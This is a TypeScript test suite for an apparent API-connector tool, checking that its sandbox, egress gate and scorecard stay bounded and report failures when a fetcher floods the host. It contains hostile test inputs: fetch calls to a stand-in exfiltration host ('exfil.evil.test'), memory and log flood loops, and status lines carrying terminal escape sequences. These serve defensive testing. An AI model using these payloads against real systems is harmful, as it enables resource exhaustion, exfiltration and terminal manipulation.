import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { captureIo } from '../../../agent/cli/io.ts';
import { main } from '../../../agent/cli/main.ts';
import { writeConnectorDir } from '../../../agent/generate/connector-dir.ts';
import { generateConnector } from '../../../agent/generate/generate-connector.ts';
import type { ApiModel } from '../../../agent/ingest/api-model.ts';
import { planHeuristically } from '../../../agent/plan/heuristic-planner.ts';
import { ResponseObserver } from '../../../agent/run/observe-responses.ts';
import { validateConnector } from '../../../agent/validate/run-validation.ts';
import { MAX_VIOLATION_FINDINGS } from '../../../agent/validate/checks/sandbox.ts';
import { Scorecard } from '../../../agent/validate/scorecard.ts';
import { renderValidation } from '../../../agent/validate/validation-report.ts';
import { MAX_ENTRY_TEXT_CHARS, MAX_KEPT_ENTRIES } from '../../../sandbox/call-log.ts';
import { MAX_MESSAGE_CHARS } from '../../../sandbox/limits.ts';
import { runFetcher } from '../../../sandbox/run-fetcher.ts';
import { arrayOf, listOp, modelOf, openapi, USER } from '../../helpers/spec.ts';
import type { Attack } from '../attack-suite.ts';

/**
 * A fetcher (or a server) that tries to exhaust the host: records, requests, refusals and log lines
 * by the hundred thousand, each as large as it may be. The host must stay bounded — records and
 * violations stream and are counted, never kept whole — and a flood must end as a reported failure
 * with the scorecard (and VALIDATION.md, and the audit line) written, never as an abort. Reported
 * before: 200,000 records of 60 KB killed the host (heap out of memory, no scorecard, an audit log
 * with only `start`); 20,000 refused requests with 16 KB URLs made scoring fail (`Invalid string
 * length`). The floods here are scaled down to run in a second or two, with the same shape.
 */

const MB = 2 ** 20;
const bearer = { components: { securitySchemes: { t: { type: 'http', scheme: 'bearer' } } }, security: [{ t: [] }] };
let cachedModel: Promise<ApiModel> | undefined;
/** A small API (one paged list of users) the floods are proved against. */
const usersModel = (): Promise<ApiModel> => (cachedModel ??= modelOf(openapi({ '/users': listOp(arrayOf(USER)) }, bearer)));

/** The proof of `fetcherSource`, with the host's peak heap growth while it ran (sampled). */
async function prove(fetcherSource: string): Promise<{ card: Scorecard; heapGrowthMb: number }> {
  const model = await usersModel();
  const before = process.memoryUsage().heapUsed;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().heapUsed)), 5);
  try {
    const card = await validateConnector({ model, plan: planHeuristically(model), fetcherSource, seed: 1 });
    return { card, heapGrowthMb: Math.round((peak - before) / MB) };
  } finally {
    clearInterval(sampler);
  }
}

/**
 * The scorecard a person and `pr` read, checked as the writer would take it: it parses, fails, fits
 * comfortably in one string, and VALIDATION.md renders from it. A sentence when it does not.
 */
function unwritable(card: Scorecard): string | undefined {
  const json = JSON.stringify(card);
  if (!Scorecard.safeParse(JSON.parse(json)).success) return 'the scorecard does not parse';
  if (card.verdict !== 'fail') return 'the flood passed the proof';
  if (json.length > 2 * MB) return `the scorecard is ${Math.round(json.length / MB)} MB`;
  const md = renderValidation(card, []);
  if (!md.includes('FAIL') || md.length > MB) return `VALIDATION.md is ${md.length} characters`;
  return undefined;
}

const has = (card: Scorecard, id: string) => card.findings.some((f) => f.id === id);

/** `n` requests, one at a time, to a host the gate refuses, each URL padded to about 16 KB. */
const refusedRequests = (n: number) => `async function run() {
  const tail = 'x'.repeat(16000);
  for (let i = 0; i < ${n}; i++) { try { await fetch('https://exfil.evil.test/' + i + '/' + tail); } catch {} }
}`;

/**
 * Serves `statusLine` with a JSON `body` on a raw 127.0.0.1 socket (node:http would refuse to write
 * such a line), calls `use` with the server's origin, and stops the server.
 */
async function withRawServer<T>(statusLine: string, body: string, use: (origin: string) => Promise<T>): Promise<T> {
  const server = createServer((sock) => {
    let head = '';
    sock.on('data', (d) => {
      head += d.toString('latin1');
      if (head.includes('\r\n\r\n')) sock.end(Buffer.from(`${statusLine}\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`, 'latin1'));
    });
    sock.on('error', () => {});
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}

/** Status lines whose reason-phrase `Response` refuses (control characters) or whose code it refuses. */
const HOSTILE_STATUS_LINES = ['HTTP/1.1 200 \x1b[2JOK', 'HTTP/1.1 404 \x1b]52;c;cHduZWQ=\x07Oops', 'HTTP/1.1 500 \x7fOops', 'HTTP/1.1 200 \x00'];

export const HOST_RESOURCE_ATTACKS: Attack[] = [
  {
    name: 'records: 20,000 records of 60 KB (1.2 GB) through the proof end as a record flood, scorecard and VALIDATION.md written, host heap bounded',
    layer: 'other',
    async attempt() {
      const { card, heapGrowthMb } = await prove(`async function run() { const pad = 'x'.repeat(60000); for (let i = 0; i < 20000; i++) emit({ type: 'identity', id: 'u' + i, pad }); }`);
      if (!has(card, 'record-flood')) return `no record-flood finding: ${card.findings.map((f) => f.id).join(', ')}`;
      if (heapGrowthMb > 256) return `the host's heap grew by ${heapGrowthMb} MB`;
      return unwritable(card);
    },
  },
  {
    name: 'records: 200,000 small records end as a record flood at the budget the seeded data allows',
    layer: 'other',
    async attempt() {
      const { card } = await prove(`async function run() { for (let i = 0; i < 200000; i++) emit({ type: 'identity', id: 'u' + i }); }`);
      const flood = card.findings.find((f) => f.id === 'record-flood');
      if (!flood) return `no record-flood finding: ${card.findings.map((f) => f.id).join(', ')}`;
      if (!(Number(flood.args.records) < 10_000)) return `${String(flood.args.records)} records were accepted before the flood was stopped`;
      return unwritable(card);
    },
  },
  {
    name: 'records: 1,000 identities nobody seeded, with 10 KB ids, are tallied by fingerprint, not kept',
    layer: 'other',
    async attempt() {
      const { card, heapGrowthMb } = await prove(`async function run(input) {
        const pad = 'y'.repeat(10000);
        for (let i = 0; i < 1000; i++) emit({ type: 'identity', id: pad + i, kind: 'human', vendor: 'v', display_name: null, email: null, status: 'active', owner_id: null, scopes: null, created_at: null, last_used_at: null, expires_at: null, source: { stream: 'users', operation: 'x', raw_id: 'r' } });
      }`);
      const users = card.streams[0];
      if (!users || users.unexpected !== 1000) return `the unseeded identities were not all counted: ${JSON.stringify(users && { unexpected: users.unexpected, fetched: users.fetched })}`;
      if (users.examples.some((e) => e.length > 200)) return 'an example quotes a whole 10 KB id';
      if (heapGrowthMb > 256) return `the host's heap grew by ${heapGrowthMb} MB`;
      return unwritable(card);
    },
  },
  {
    name: 'requests: 2,000 refused requests with 16 KB URLs — the scorecard counts every violation and lists the first few, each cut short',
    layer: 'other',
    async attempt() {
      const { card } = await prove(refusedRequests(2_000));
      const total = card.sandbox.violations_total ?? card.sandbox.violations.length;
      if (total !== 2_000) return `the scorecard counts ${total} violations, not 2,000`;
      if (card.sandbox.violations.length > MAX_KEPT_ENTRIES) return `the scorecard lists ${card.sandbox.violations.length} violations`;
      if (card.sandbox.violations.some((v) => v.message.length > MAX_ENTRY_TEXT_CHARS + 1)) return 'a violation quotes a whole 16 KB URL';
      if (!has(card, 'violations-not-listed') || !has(card, 'egress-violation')) return 'the findings do not report the violations and their count';
      const listed = card.findings.filter((f) => f.id === 'egress-violation').length;
      if (listed > MAX_VIOLATION_FINDINGS) return `${listed} violations are findings of their own`;
      return unwritable(card);
    },
  },
  {
    name: 'gate: 3,000 requests with 16 KB URLs to a host it refuses — its call log and violations keep the first few, cut short',
    layer: 'gate',
    async attempt(defenses) {
      const gate = defenses.gate({ allowedOrigins: ['https://api.vendor.test'], maxRequests: 30_000, fetchImpl: async () => new Response('{}') });
      const tail = 'x'.repeat(16_000);
      for (let i = 0; i < 3_000; i++) await gate.fetch({ url: `https://exfil.evil.test/${i}/${tail}`, method: 'GET', headers: {} });
      const longest = Math.max(0, ...gate.calls.map((c) => c.url.length), ...gate.violations.map((v) => v.message.length));
      if (gate.calls.length > MAX_KEPT_ENTRIES || gate.violations.length > MAX_KEPT_ENTRIES) return `the gate keeps ${gate.calls.length} calls and ${gate.violations.length} violations`;
      return longest > MAX_ENTRY_TEXT_CHARS + 1 ? `the gate hands out a ${longest}-character URL` : undefined;
    },
  },
  {
    name: 'requests: 20,000 requests to a refused host fired at once are held to a few in flight, and the run is reported',
    layer: 'other',
    async attempt() {
      const result = await runFetcher({
        source: `async function run() { const tail = 'x'.repeat(16000); await Promise.all(Array.from({ length: 20000 }, (_, i) => fetch('https://exfil.evil.test/' + i + '/' + tail).catch(() => 0))); }`,
        limits: { cpuMs: 5_000, wallMs: 10_000 },
        egress: { allowedOrigins: ['https://api.vendor.test'], maxRequests: 20_000 },
      });
      if (result.ok || result.failure.kind !== 'egress-violation') return `the run ended as ${result.ok ? 'ok' : result.failure.kind}`;
      if (result.stats.violations > 64) return `${result.stats.violations} requests reached the gate at once`;
      if (result.calls.length > MAX_KEPT_ENTRIES) return `the call log keeps ${result.calls.length} entries`;
      return undefined;
    },
  },
  {
    name: 'requests: 1,000 calls outside the plan with 8 KB paths — the scorecard lists the first and counts them all',
    layer: 'other',
    async attempt() {
      const { card } = await prove(`async function run(input) { const tail = 'z'.repeat(8000); for (let i = 0; i < 1000; i++) { try { await fetch(input.base_url + '/nowhere/' + i + '/' + tail); } catch {} } }`);
      const total = card.calls.unplanned_total ?? card.calls.unplanned.length;
      if (total !== 1000 || card.calls.unplanned.length > 50) return `the scorecard lists ${card.calls.unplanned.length} unplanned calls and counts ${total}`;
      if (card.calls.unplanned.some((c) => c.path.length > 400)) return 'an unplanned call quotes a whole 8 KB path';
      return unwritable(card);
    },
  },
  {
    name: 'logs: 1,000,000 log lines of 10 KB are counted; only the first maxLogLines are kept, each cut short',
    layer: 'other',
    async attempt() {
      const result = await runFetcher({ source: `async function run() { const line = 'l'.repeat(10000); for (let i = 0; i < 1000000; i++) console.log(i, line); }`, limits: { cpuMs: 10_000, wallMs: 15_000 }, egress: { allowedOrigins: [] } });
      if (result.logs.length > 200) return `${result.logs.length} log lines kept`;
      if (result.logs.some((l) => l.length > MAX_MESSAGE_CHARS + 1)) return 'a log line was kept whole';
      if (result.stats.logLines !== 1_000_000) return `the run counted ${result.stats.logLines} log lines, not 1,000,000`;
      return undefined;
    },
  },
  {
    name: 'logs: a log flood in a loop that never yields ends at the CPU limit, the lines kept bounded and counted',
    layer: 'other',
    async attempt() {
      const result = await runFetcher({ source: `async function run() { for (;;) log('again and again'); }`, limits: { cpuMs: 300, wallMs: 5_000 }, egress: { allowedOrigins: [] } });
      if (result.ok || result.failure.kind !== 'cpu-timeout') return `the run ended as ${result.ok ? 'ok' : result.failure.kind}`;
      if (result.logs.length > 200) return `${result.logs.length} log lines kept`;
      if (result.stats.logLines <= 200) return `the dropped lines were not counted (${result.stats.logLines})`;
      return undefined;
    },
  },
  {
    name: 'files: a flooding fetcher proved and written as a connector — scorecard.json and VALIDATION.md on disk report the flood; `fetchwright validate` on it ends audited, never aborted',
    layer: 'other',
    async attempt() {
      const model = await usersModel();
      const root = await mkdtemp(path.join(os.tmpdir(), 'fetchwright-flood-'));
      const generated = await generateConnector(model, planHeuristically(model), { seed: 1, maxAttempts: 1, force: true });
      const flood = `async function run(): Promise<void> { const pad = 'x'.repeat(60000); for (let i = 0; i < 20000; i++) emit({ type: 'identity', id: 'u' + i, pad }); }\n`;
      const { card } = await prove(flood);
      const { dir } = writeConnectorDir(path.join(root, 'connectors'), { ...generated, fetcher: flood, scorecard: card });
      const written = Scorecard.safeParse(JSON.parse(await readFile(path.join(dir, 'scorecard.json'), 'utf8')));
      if (!written.success || !written.data.findings.some((f) => f.id === 'record-flood')) return 'scorecard.json does not report the flood';
      const md = await readFile(path.join(dir, 'VALIDATION.md'), 'utf8');
      if (!/FAIL/.test(md) || !/flooded the host/.test(md)) return `VALIDATION.md does not report the flood: ${md.slice(0, 300)}`;
      // The CLI refuses to run code the templates did not render (exit 12) or proves it and reports the flood (exit 9): either way audited.
      const io = captureIo();
      const state = path.join(root, 'state');
      const code = await main(['validate', dir], io, { ...process.env, FETCHWRIGHT_STATE_DIR: state });
      if (code !== 9 && code !== 12) return `validate exited ${code}: ${io.err().slice(0, 300)}`;
      const lines = (await readFile(path.join(state, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { step: string; outcome: string });
      const last = lines.at(-1);
      return lines.length > 1 && last?.step === 'end' && last.outcome !== 'ok' ? undefined : `the audit log ends with ${JSON.stringify(last)} after ${lines.length} lines`;
    },
  },
  {
    name: 'responses: status lines with control characters in the reason-phrase — the run observer hands on a readable response with the same status and bytes, never a locked one',
    layer: 'other',
    async attempt() {
      const model = await usersModel();
      const body = JSON.stringify([{ id: 'u1', name: 'a', email: 'a@x.test' }]);
      for (const line of HOSTILE_STATUS_LINES) {
        const got = await withRawServer(line, body, async (origin) => {
          const observer = new ResponseObserver({ plan: planHeuristically(model), model, baseUrl: origin, maxResponseBytes: MB, secrets: [] });
          const request = new Request(`${origin}/users`);
          const response = await fetch(request);
          const handed = observer.observe(request, response);
          if (handed.bodyUsed || handed.body?.locked) return `${JSON.stringify(line)}: the response handed on is locked`;
          const text = await handed.text();
          if (handed.status !== Number(line.slice(9, 12)) || text !== body) return `${JSON.stringify(line)}: handed on ${handed.status} with ${text.length} bytes`;
          return undefined;
        });
        if (got) return got;
      }
      return undefined;
    },
  },
  {
    name: 'responses: `fetchwright run` against a server answering `HTTP/1.1 200 \\x1b[2JOK` ends its run audited with an exit code of its own, never an internal error',
    layer: 'other',
    async attempt() {
      const model = await usersModel();
      const root = await mkdtemp(path.join(os.tmpdir(), 'fetchwright-status-'));
      const generated = await generateConnector(model, planHeuristically(model), { seed: 1, maxAttempts: 1, force: false });
      const { dir } = writeConnectorDir(path.join(root, 'connectors'), generated);
      const state = path.join(root, 'state');
      return withRawServer('HTTP/1.1 200 \x1b[2JOK', JSON.stringify([{ id: 'u1', name: 'a', email: 'a@x.test' }]), async (origin) => {
        const io = captureIo();
        const code = await main(['run', dir, '--base-url', origin, '--credential-env', 'API_TOKEN'], io, { ...process.env, FETCHWRIGHT_STATE_DIR: state, API_TOKEN: 'fw-status-attack-token-91c2' });
        if (code === 1) return `run ended in an internal error: ${io.err().slice(0, 200)}`;
        if ((io.out() + io.err()).includes('\x1b')) return 'the escape reached the terminal';
        const last = (await readFile(path.join(state, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { step: string }).at(-1);
        return last?.step === 'end' ? undefined : `the audit log ends with ${JSON.stringify(last)}`;
      });
    },
  },
];
